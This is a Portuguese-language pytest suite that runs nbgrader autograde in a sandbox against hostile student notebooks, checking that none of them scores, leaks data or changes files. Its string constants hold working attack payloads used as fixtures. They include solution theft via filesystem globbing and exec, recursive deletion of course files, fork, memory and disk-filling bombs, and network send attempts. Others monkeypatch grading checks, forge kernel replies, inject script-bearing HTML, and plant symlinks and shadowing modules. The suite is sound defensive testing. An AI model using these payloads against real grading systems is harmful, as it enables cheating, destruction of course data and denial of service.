"""Entregas hostis ou quebradas corrigidas pelo ``nbgrader autograde`` de verdade, com a caixa de areia.

Uma turma do ex02 (o exercício sem TensorFlow), com alunos honestos, um em branco e um aluno por ataque, é
corrigida numa só chamada. Cada ataque ocupa a primeira célula de solução (as outras ficam com ``pass``), mexe
no próprio notebook ou na pasta da entrega (links, arquivos especiais, módulos que sombreiam os do curso).
Espera-se que:

* nenhum ataque ganhe mais do que o notebook em branco (todos partem de respostas erradas);
* a correção termine, com erro só para os notebooks que o nbgrader recusa (ilegíveis ou com metadados de nota
  adulterados); as entregas recusadas na entrada valem zero, com o motivo em português, e o original fica
  intacto na quarentena;
* os alunos honestos tenham a mesma nota cheia de quando foram corrigidos sozinhos;
* nada mais mude: soluções, versão do aluno, configuração, gradebook (fora as notas), as outras entregas, um
  arquivo fora do curso e o disco da máquina; nenhuma conexão chegue a um servidor na máquina;
* nada de teste oculto, gabarito ou dado de colega apareça no retorno de ninguém.
"""

import base64
import hashlib
import os
import re
import socket
import subprocess
import time
import zlib
from pathlib import Path

import nbformat
import pytest
from nbgrader_utils import (
    BIN,
    autograde,
    feedback_html,
    fill,
    generate,
    generate_feedback,
    grade_id,
    make_course,
    nbgrader_env,
    read,
    scores,
    solution_sources,
    source_notebook,
    submit,
)
from test_sandbox import require_isolation

pytestmark = pytest.mark.slow

ASSIGNMENT = "ex02_dimensoes"
# Limites menores que os do curso só para o teste caber em poucos minutos.
LIMITS = ("--Execute.timeout=5", "--SandboxExecute.notebook_timeout=60")

WRONG_ANSWERS = """
def tamanho_saida(n, kernel_size, strides=1, padding="valid", dilation_rate=1):
    return 0
def saida_valid_3x3(H, W):
    return (0, 0)
def saida_same_stride2(H, W):
    return (0, 0)
def padding_para_manter(kernel_size):
    return 0
resposta_stride = "A"
entradas_densa = 0
"""

# Lê a solução ou a entrega de um colega, se as achar, e executa as células de solução delas.
STEAL = """
import glob, json, os
alvos = [p for raiz in ("/home", "/srv", "/tmp", "/work", "/root", "..", "../..", "../../..", COURSE)
         for p in glob.glob(os.path.join(raiz, "**", "ex02_dimensoes.ipynb"), recursive=True)]
for alvo in alvos:
    try:
        celulas = json.load(open(alvo))["cells"]
    except Exception:
        continue
    for celula in celulas:
        if celula.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(celula["source"]), globals())
print("lidos:", alvos)
"""

# Tenta apagar ou sobrescrever tudo o que importa fora da própria pasta.
VANDALIZE = """
import os, shutil
for alvo in TARGETS + ["..", "../..", "/tmp"]:
    for acao in (lambda p: shutil.rmtree(p), lambda p: os.remove(p), lambda p: open(p, "w").write("x"),
                 lambda p: open(os.path.join(p, "invasor.txt"), "w").write("x")):
        try:
            acao(alvo)
        except Exception:
            pass
"""

NETWORK = """
import socket
for endereco in [("127.0.0.1", PORT), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        socket.create_connection(endereco, timeout=2).sendall(b"vazou")
        print("conectou", endereco)
    except OSError as erro:
        print("sem rede", endereco, erro)
"""

FAKE_GRADING = """
def _nada(*args, **kwargs):
    return None
check_function = check_int = check_tuple = check_choice = check_raises = check_float = check_array = _nada
def fresh_library():
    import cnn_lib.shapes, cnn_lib.ops
    return cnn_lib.shapes, cnn_lib.ops
"""

# Troca grading.collect por uma versão que manda ao corretor, em nome da função errada, a do cnn_lib
# (emprestar a referência), e um segundo registro "certo" para a entrada da camada densa.
FORGED_ANSWERS = """
from IPython.display import display
from cnn_lib import grading as _g
import cnn_lib.shapes
_coleta = _g.collect
def _emprestada(n, kernel_size, strides=1, padding="valid", dilation_rate=1):
    return cnn_lib.shapes.output_size(n, kernel_size, strides=strides, padding=padding,
                                      dilation_rate=dilation_rate)
def _forja(item, resposta):
    _coleta(item, _emprestada if "tamanho_saida" in item else resposta)
    display({"application/vnd.cnn-curso.resposta+json": {"item": "ex02_dimensoes/entradas_densa",
             "tipo": "valor", "valor": {"t": "int", "v": 128}}, "text/plain": "forjado"}, raw=True)
_g.collect = _forja
grading.collect = _forja
"""

# Responde ao corretor "ok" antes de cada célula rodar (o antigo pre_run_cell que mandava um execute_reply).
FAKE_REPLY = """
ip = get_ipython()
def _responde(info):
    k = ip.kernel
    k.session.send(k.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1,
                   "user_expressions": {}, "payload": []}, parent=k.get_parent("shell"))
ip.events.register("pre_run_cell", _responde)
"""

# Um aluno que quer levar o histórico do kernel (In) no retorno: depois de cada célula, imprime-o comprimido.
HISTORY_LEAK = """
import base64, zlib
get_ipython().events.register("post_run_cell", lambda r: print("HIST:" + base64.b64encode(
    zlib.compress("\\n".join(In).encode())).decode()))
"""

# Tenta encher o disco de quem corrige: bytes e arquivos na pasta de trabalho e no /tmp.
FILL_DISK = """
import os
for pasta in (".", "/tmp"):
    try:
        with open(os.path.join(pasta, "grande.bin"), "wb") as arquivo:
            for _ in range(600):
                arquivo.write(b"0" * 2**20)
    except OSError as erro:
        print("parou:", erro)
    try:
        for i in range(200000):
            open(os.path.join(pasta, f"f{i}"), "w").close()
    except OSError as erro:
        print("parou em", i, erro)
"""

# Saídas ativas: se o HTML não ficar inerte, o formgrader e o retorno rodariam estes scripts.
ACTIVE_HTML = """
from IPython.display import display, HTML, Javascript, Markdown, SVG
display(HTML("<script>window.roubado = 1</script><img src=x onerror='window.roubado = 2'>"))
display(Javascript("window.roubado = 3"))
display(Markdown("<img src=y onerror='window.roubado = 4'>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.roubado = 5</script></svg>'))
"""

# Cada ataque: o código que o aluno põe na célula de tamanho_saida.
ATTACKS = {
    "laco_infinito": "while True:\n    pass",
    "laco_surdo": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    + "while True:\n    time.sleep(1)",
    "bomba_memoria": "import numpy as np\nblocos = []\n"
    + "while True:\n    blocos.append(np.empty(2**28, np.uint8))",
    "bomba_fork": "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
    + "        time.sleep(300)",
    "saida_gigante": "print('x' * 10**9)",
    "saida_sem_fim": "while True:\n    print('y' * 10**5)",
    "sys_exit": "import sys\nsys.exit(0)",
    "os_exit": "import os\nos._exit(0)",
    "mata_kernel": "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
    + "os.kill(os.getpid(), signal.SIGKILL)",
    "grading_trocado": WRONG_ANSWERS
    + "import cnn_lib.grading\nfor _m in (grading, cnn_lib.grading):\n"
    + "    _m.check_function = _m.check_int = _m.check_tuple = _m.check_choice = _m.check_raises = "
    + "_m._fail = _m.require = lambda *a, **k: None",
    "allclose_trocado": WRONG_ANSWERS
    + "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
    + "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None",
    "builtins_trocados": WRONG_ANSWERS
    + "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.AssertionError = Warning",
    "sempre_igual": "class Tudo(int):\n    def __eq__(self, outro):\n        return True\n"
    + "    __hash__ = int.__hash__\n    def __ne__(self, outro):\n        return False\n"
    + "class Par(tuple):\n    __eq__ = Tudo.__eq__\n    __hash__ = tuple.__hash__\n"
    + "def tamanho_saida(*a, **k):\n    return Tudo(0)\n"
    + "def saida_valid_3x3(H, W):\n    return Par((Tudo(0), Tudo(0)))\n"
    + "saida_same_stride2 = saida_valid_3x3\npadding_para_manter = tamanho_saida\n"
    + "class Letra(str):\n    __eq__ = Tudo.__eq__\n    __hash__ = str.__hash__\n"
    + "resposta_stride = Letra('A')\nentradas_densa = Tudo(0)",
    # O nbgrader puro dá nota cheia a uma célula de teste cujo primeiro resultado não é um número.
    "resultado_antes_do_erro": WRONG_ANSWERS.replace(
        "    return 0\n", "    import sys\n    sys.displayhook('nota cheia')\n    return 0\n", 1
    ),
    "transformador": WRONG_ANSWERS
    + "get_ipython().input_transformers_cleanup.append(lambda linhas: ['pass\\n'])",
    "reload_trocado": WRONG_ANSWERS
    + "import importlib, types\n_falso = types.ModuleType('cnn_lib.grading')\n"
    + f"exec({FAKE_GRADING!r}, _falso.__dict__)\nimportlib.reload = lambda modulo: _falso",
    "caminho_trocado": WRONG_ANSWERS
    + "import os, sys, cnn_lib\nos.makedirs('/tmp/falso', exist_ok=True)\n"
    + f"open('/tmp/falso/grading.py', 'w').write({FAKE_GRADING!r})\n"
    + "cnn_lib.__path__.insert(0, '/tmp/falso')\n"
    + "sys.modules.pop('cnn_lib.grading', None)\nimport cnn_lib.grading",
    "referencia_trocada": WRONG_ANSWERS
    + "def saida_valid_3x3(H, W):\n    import sys\n"
    + "    sys.modules['cnn_lib.shapes'].output_size = lambda *a, **k: 0\n    return (0, 0)",
    # O veredito agora é calculado fora do kernel: estes tentam forjar, dentro do processo, o que o kernel
    # manda ao corretor.
    "resposta_forjada": WRONG_ANSWERS + FORGED_ANSWERS,
    "rastreio": WRONG_ANSWERS
    + "import sys\ndef _troca(frame, evento, arg):\n"
    + "    if evento == 'call' and frame.f_code.co_name == 'collect':\n"
    + "        frame.f_locals.get('answer')\n    return _troca\nsys.settrace(_troca)",
    "resposta_falsa_ok": WRONG_ANSWERS + FAKE_REPLY,
    "historico": WRONG_ANSWERS + HISTORY_LEAK,
    "disco": WRONG_ANSWERS + FILL_DISK,
    "html_ativo": WRONG_ANSWERS + ACTIVE_HTML,
}


def hostile(release, code):
    """O notebook do aluno com ``code`` na primeira célula de solução e ``pass`` nas outras.

    Assim nenhum esboço (``raise NotImplementedError()``) desfaz o ataque: a nota vem só dele.
    """
    nb = read(release)
    solutions = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("solution")]
    for cell in solutions:
        cell.source = code if cell is solutions[0] else "pass"
    return nb


def tamper_tests(nb, change):
    """Aplica ``change`` a cada célula de teste (as que têm pontos e não são de solução)."""
    for cell in nb.cells:
        nbgrader = cell.metadata.get("nbgrader", {})
        if nbgrader.get("grade") and not nbgrader.get("solution"):
            change(cell)
    return nb


def _set(**values):
    return lambda cell: cell.metadata.nbgrader.update(values)


def _replace_source(cell):
    cell.source = "pass"


def _unlock(cell):
    cell.metadata.nbgrader["locked"] = False
    cell.source = "pass"


def _skip(cell):
    cell.metadata["tags"] = ["skip-execution", "raises-exception"]


def _rename(cell):
    cell.metadata.nbgrader["grade_id"] += "_novo"


# Cada truque é aplicado a todas as células de teste de um notebook com respostas erradas.
TEST_CELL_TRICKS = {
    "testes_adulterados": _replace_source,
    "meta_sem_nota": _set(grade=False),
    "meta_pontos": _set(points=100),
    "meta_solucao": _set(solution=True),
    "meta_destravada": _unlock,
    "meta_skip": _skip,
    "meta_grade_id": _rename,
}
# O nbgrader recusa (com erro no log e nota zero) notebooks ilegíveis e células de teste cujos metadados não
# batem com o gradebook (grade_id desconhecido, grade ou solution trocados).
REJECTED = {"ipynb_corrompido", "ipynb_vazio", "meta_grade_id", "meta_sem_nota", "meta_solucao"}


MIB = 2**20


def intake_attacks(course, release, outside):
    """Entregas com respostas erradas e uma pasta hostil; devolve os alunos que a entrada deve recusar."""
    wrong = hostile(release, WRONG_ANSWERS)

    def folder(student):
        return submit(course, ASSIGNMENT, student, wrong).parent

    (folder("link_solucao") / f"{ASSIGNMENT}.ipynb").unlink()
    (course / "submitted" / "link_solucao" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").symlink_to(
        course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    )
    (folder("link_gradebook") / "notas.db").symlink_to(course / "gradebook.db")
    (folder("link_dev_zero") / "dados.bin").symlink_to("/dev/zero")
    os.link(outside, folder("link_fisico") / "dados.txt")
    os.mkfifo(folder("fifo") / "dados.txt")
    with socket.socket(socket.AF_UNIX) as unix:
        unix.bind(str(folder("socket") / "dados.sock"))
    (folder("nome_controle") / "dados\x1b[2J.txt").write_text("x")
    (folder("nome_pontos") / "..dados").mkdir()
    (folder("arquivo_grande") / "dados.npy").write_bytes(b"0" * (17 * MIB))
    (course / "submitted" / "pasta_link").mkdir()
    (course / "submitted" / "pasta_link" / ASSIGNMENT).symlink_to(
        course / "submitted" / "honesto" / ASSIGNMENT
    )
    refused = {
        "link_solucao",
        "link_gradebook",
        "link_dev_zero",
        "link_fisico",
        "fifo",
        "socket",
        "nome_controle",
        "nome_pontos",
        "arquivo_grande",
        "pasta_link",
    }
    # Sombreamento: módulos que o kernel importaria da pasta de trabalho. A entrada os deixa de fora.
    shadow = folder("sombra")
    (shadow / "cnn_lib").mkdir()
    (shadow / "cnn_lib" / "__init__.py").write_text("import os\nos._exit(0)\n")
    for name in ("ipykernel_launcher.py", "numpy.py", "sitecustomize.py", "IPython.py"):
        (shadow / name).write_text("import os\nos._exit(0)\n")
    (shadow / "atalho.pth").write_text("import os; os._exit(0)\n")
    return refused


def entries(folder):
    """Cada caminho sob ``folder`` (sem seguir links) com o seu tipo e, se é arquivo, o hash do conteúdo."""
    if Path(folder).is_symlink():
        return {".": "link:" + os.readlink(folder)}
    found = {}
    for dirname, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirname, name)
            relative = str(path.relative_to(folder))
            if path.is_symlink():
                found[relative] = "link:" + os.readlink(path)
            elif path.is_file():
                found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                found[relative] = oct(os.lstat(path).st_mode)
    return found


def tree_hash(paths):
    """Hash de cada arquivo sob ``paths`` (e da existência de cada caminho)."""
    digest = {}
    for root in paths:
        digest[str(root)] = root.exists()
        for path in sorted(root.rglob("*")) if root.is_dir() else [root]:
            if path.is_file():
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def run_autograde(course):
    """``nbgrader autograde`` de todas as entregas; devolve o processo (sem exigir código de saída 0).

    As áreas temporárias da caixa de areia ficam numa pasta só deste curso (``TMPDIR``), para conferir depois
    que nada sobrou.
    """
    scratch = course.parent / "tmp"
    scratch.mkdir(exist_ok=True)
    return subprocess.run(
        [str(BIN / "nbgrader"), "autograde", ASSIGNMENT, "--force", *LIMITS],
        cwd=course,
        env=dict(nbgrader_env(), TMPDIR=str(scratch)),
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    require_isolation()
    root = tmp_path_factory.mktemp("hostil")
    course = make_course(root, [ASSIGNMENT])
    release = generate(course, ASSIGNMENT)
    answers = solution_sources(source_notebook(ASSIGNMENT))
    submit(course, ASSIGNMENT, "honesto", fill(release, answers))
    submit(course, ASSIGNMENT, "branco", read(release))
    extra = submit(course, ASSIGNMENT, "honesto_com_sobras", fill(release, answers)).parent
    (extra / ".ipynb_checkpoints").mkdir()
    (extra / ".ipynb_checkpoints" / f"{ASSIGNMENT}-checkpoint.ipynb").write_text("{}")
    (extra / "rascunho.py").write_text("print('rascunho')")
    originals = {"honesto_com_sobras": entries(extra)}
    first = run_autograde(course)
    assert first.returncode == 0, first.stderr
    alone = scores(course, ASSIGNMENT)

    outside = root / "fora" / "importante.txt"
    outside.parent.mkdir()
    outside.write_text("não mexa")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    targets = [course / "solutions", course / "gradebook.db", course / "submitted" / "honesto", outside]
    extras = {
        "le_solucao": f"COURSE = {str(course)!r}\n" + STEAL,
        "vandalismo": WRONG_ANSWERS + f"TARGETS = {[str(t) for t in targets]!r}\n" + VANDALIZE,
        "rede": WRONG_ANSWERS + f"PORT = {listener.getsockname()[1]}\n" + NETWORK,
    }
    for student, code in {**ATTACKS, **extras}.items():
        submit(course, ASSIGNMENT, student, hostile(release, code))
    for student, trick in TEST_CELL_TRICKS.items():
        submit(course, ASSIGNMENT, student, tamper_tests(hostile(release, WRONG_ANSWERS), trick))
    refused = intake_attacks(course, release, outside)
    deleted = hostile(release, WRONG_ANSWERS)
    deleted.cells = [cell for cell in deleted.cells if not (grade_id(cell) or "").startswith("testes")]
    submit(course, ASSIGNMENT, "celulas_apagadas", deleted)
    for student, content in {"ipynb_corrompido": "{ isto não é json", "ipynb_vazio": ""}.items():
        submit(course, ASSIGNMENT, student, read(release)).write_text(content)

    protected = [
        course / name for name in ("solutions", "exercises", "nbgrader_config.py", "nbgrader_sandbox.py")
    ]
    moved = refused | {"sombra", "honesto_com_sobras"}
    protected += [path for path in (course / "submitted").iterdir() if path.name not in moved]
    protected += [outside, course / "submitted" / "honesto_com_sobras" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"]
    before = tree_hash(protected)
    for student in refused | {"sombra"}:
        originals[student] = entries(course / "submitted" / student / ASSIGNMENT)
    start = time.perf_counter()
    result = run_autograde(course)
    elapsed = time.perf_counter() - start
    try:
        intruder = listener.accept()
    except BlockingIOError:
        intruder = None
    listener.close()
    generate_feedback(course, ASSIGNMENT)
    return {
        "refused": refused,
        "originals": originals,
        "course": course,
        "alone": alone,
        "scores": scores(course, ASSIGNMENT),
        "result": result,
        "elapsed": elapsed,
        "changed": {k for k, v in tree_hash(protected).items() if before.get(k) != v}
        | set(before) - set(tree_hash(protected)),
        "intruder": intruder,
    }


def hostile_students(graded_class):
    return sorted(set(graded_class["scores"]) - {"honesto", "honesto_com_sobras", "branco"})


def test_no_attack_beats_a_blank_notebook(graded_class):
    blank = graded_class["scores"]["branco"].total
    assert blank == 0
    results = {student: graded_class["scores"][student].total for student in hostile_students(graded_class)}
    expected = len(ATTACKS) + len(TEST_CELL_TRICKS) + len(graded_class["refused"]) + 1 + 6
    assert len(results) == expected
    assert {student: total for student, total in results.items() if total > blank} == {}


def test_grading_finishes_and_only_unreadable_notebooks_fail(graded_class):
    result = graded_class["result"]
    failed = set(
        re.findall(r"There was an error processing assignment '\S+' for student '(\S+)'", result.stderr)
    )
    assert failed == REJECTED, result.stderr[-3000:]
    autograded = graded_class["course"] / "autograded"
    for student in set(graded_class["scores"]) - failed:
        notebook = autograded / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        assert notebook.stat().st_size < 2 * 2**20, student  # a saída gigante não chegou ao arquivo
    assert graded_class["elapsed"] < 600


@pytest.mark.parametrize("student", ["honesto", "honesto_com_sobras"])
def test_honest_students_keep_full_marks(graded_class, student):
    alone, now = graded_class["alone"][student], graded_class["scores"][student]
    assert alone.total == now.total == 9
    assert alone.cells == now.cells


def test_refused_hand_ins_say_why_in_portuguese_and_stay_in_quarantine(graded_class):
    course = graded_class["course"]
    for student in graded_class["refused"]:
        nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
        assert nb.cells[0].cell_type == "markdown" and "Entrega recusada" in nb.cells[0].source, student
        assert "EntregaRecusada" in {out.ename for cell in nb.cells for out in cell.get("outputs", [])}
        page = feedback_html(course, ASSIGNMENT, student)
        assert "Entrega recusada" in page and "SQLite" not in page
        (kept,) = (course / "quarentena" / student).iterdir()
        assert kept.name.startswith(ASSIGNMENT)
    solution = course / "quarentena" / "link_solucao"
    (kept,) = solution.iterdir()
    link = kept / f"{ASSIGNMENT}.ipynb"
    assert link.is_symlink() and link.resolve() == course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


def test_quarantine_keeps_every_original_byte(graded_class):
    course = graded_class["course"]
    for student, before in graded_class["originals"].items():
        (kept,) = (course / "quarentena" / student).iterdir()
        after = entries(kept)
        assert after and all(before[path] == digest for path, digest in after.items()), student
        if student in graded_class["refused"]:
            assert after == before, student


def test_shadowing_modules_never_reach_the_kernel(graded_class):
    course = graded_class["course"]
    workdir = course / "autograded" / "sombra" / ASSIGNMENT
    assert not (workdir / "cnn_lib").exists() and not (workdir / "ipykernel_launcher.py").exists()
    (kept,) = (course / "quarentena" / "sombra").iterdir()
    assert (kept / "cnn_lib" / "__init__.py").exists() and (kept / "atalho.pth").exists()
    messages = error_messages(workdir / f"{ASSIGNMENT}.ipynb")
    assert not any("ExecucaoInterrompida" in message for message in messages)  # o kernel não morreu


def test_disk_filling_stops_at_the_sandbox_limits(graded_class):
    nb = nbformat.read(
        graded_class["course"] / "autograded" / "disco" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4
    )
    text = "".join(out.get("text", "") for cell in nb.cells for out in cell.get("outputs", []))
    assert text.count("No space left on device") >= 2 or text.count("File too large") >= 1, text[-2000:]
    scratch = graded_class["course"].parent / "tmp"
    assert not list(scratch.glob("cnn-sandbox-*"))
    assert str(scratch) not in Path("/proc/mounts").read_text()


def test_feedback_carries_no_hidden_test_no_key_and_no_classmate(graded_class):
    course = graded_class["course"]
    regions = [
        region
        for cell in read(source_notebook(ASSIGNMENT)).cells
        for region in re.findall(r"BEGIN SOLUTION(.*?)END SOLUTION", cell.source, re.S)
    ]
    lines = [line.strip() for region in regions for line in region.splitlines()]
    solution_lines = [line for line in lines if len(line) > 25]
    assert solution_lines
    for student in graded_class["scores"]:
        path = course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
        if not path.exists():
            continue
        page = path.read_text(encoding="utf-8")
        leaked = [page] + [
            zlib.decompress(base64.b64decode(blob)).decode()
            for blob in re.findall(r"HIST:([A-Za-z0-9+/=]+)", page)
        ]
        for text in leaked:
            assert "BEGIN HIDDEN TESTS" not in text and "SQLite format" not in text, student
            if student not in ("honesto", "honesto_com_sobras"):
                assert not any(line in text for line in solution_lines), student


def test_nothing_outside_the_submissions_changed(graded_class):
    assert graded_class["changed"] == set()
    assert graded_class["intruder"] is None


def test_stopped_cells_explain_why_in_portuguese(graded_class):
    autograded = graded_class["course"] / "autograded"
    expected = {
        "os_exit": "terminou com o código 0",
        "mata_kernel": "SIGKILL",
        "saida_sem_fim": "não concluiu a célula",
        "laco_surdo": "não concluiu a célula",
    }
    for student, reason in expected.items():
        messages = error_messages(autograded / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
        assert any(reason in message for message in messages), (student, messages[-3:])


def error_messages(path):
    """As mensagens de erro das células de código de um notebook corrigido, em ordem."""
    nb = nbformat.read(path, as_version=4)
    return [
        out.evalue
        for cell in nb.cells
        if cell.cell_type == "code"
        for out in cell.outputs
        if out.output_type == "error"
    ]


FAKE_MODEL = '''
class ModeloFalso:
    """Não aprende nada: acha cada imagem em x_test, que o próprio notebook carregou, e devolve o rótulo."""

    input_shape = (None, 8, 8, 1)
    output_shape = (None, 10)

    def __call__(self, x, training=False):
        x = np.asarray(x)
        saida = np.zeros((len(x), 10), dtype="float32")
        for i, imagem in enumerate(x):
            j = int(np.argmin(((x_test - imagem) ** 2).reshape(len(x_test), -1).sum(axis=1)))
            saida[i, int(y_test[j])] = 1.0
        return saida


modelo = ModeloFalso()
'''

# construir_modelo devolve um objeto com o que o teste antigo consultava (compiled, layers, count_params e uma
# saída que soma 1), sem ser um modelo Keras.
FAKE_BUILDER = """
class ConstrutorFalso:
    compiled = True
    input_shape = (None, 8, 8, 1)
    output_shape = (None, 10)
    layers = [layers.Conv2D(4, 3)]

    def count_params(self):
        return 1000

    def __call__(self, x, training=False):
        return np.full((len(x), 10), 0.1, dtype="float32")


def construir_modelo():
    return ConstrutorFalso()
"""

# O mesmo objeto falso, com o Keras trocado para o teste oculto o aceitar: sem a auditoria, ganharia o ponto.
KERAS_SWAPPED = (
    FAKE_BUILDER
    + """
ConstrutorFalso.get_weights = lambda self: []
ConstrutorFalso.set_weights = lambda self, pesos: None
ConstrutorFalso._flatten_layers = lambda self, include_self=False: list(self.layers)
keras.Sequential = ConstrutorFalso
keras.models.clone_model = lambda modelo: modelo
"""
)


@pytest.fixture(scope="module")
def ex05_class(tmp_path_factory):
    """O ex05 (TensorFlow) corrigido com um aluno honesto e três modelos falsos, numa chamada."""
    require_isolation()
    course = make_course(tmp_path_factory.mktemp("ex05"), ["ex05_pratica"])
    release = generate(course, "ex05_pratica")
    submit(
        course, "ex05_pratica", "honesto", fill(release, solution_sources(source_notebook("ex05_pratica")))
    )
    submit(course, "ex05_pratica", "modelo_falso", fill(release, {"treino": FAKE_MODEL}))
    submit(course, "ex05_pratica", "construtor_falso", fill(release, {"construir_modelo": FAKE_BUILDER}))
    submit(course, "ex05_pratica", "keras_trocado", fill(release, {"construir_modelo": KERAS_SWAPPED}))
    autograde(course, "ex05_pratica")
    return {"course": course, "scores": scores(course, "ex05_pratica")}


def max_score(course, assignment):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return gradebook.find_assignment(assignment).max_score


def test_tensorflow_fits_in_the_sandbox(ex05_class):
    """Importar o TensorFlow e treinar cabem nos limites da caixa de areia: o honesto tira a nota cheia."""
    course = ex05_class["course"]
    assert ex05_class["scores"]["honesto"].total == max_score(course, "ex05_pratica") > 0


@pytest.mark.parametrize("student", ["modelo_falso", "construtor_falso", "keras_trocado"])
def test_fake_model_object_earns_nothing_in_ex05(ex05_class, student):
    assert ex05_class["scores"][student].total == 0
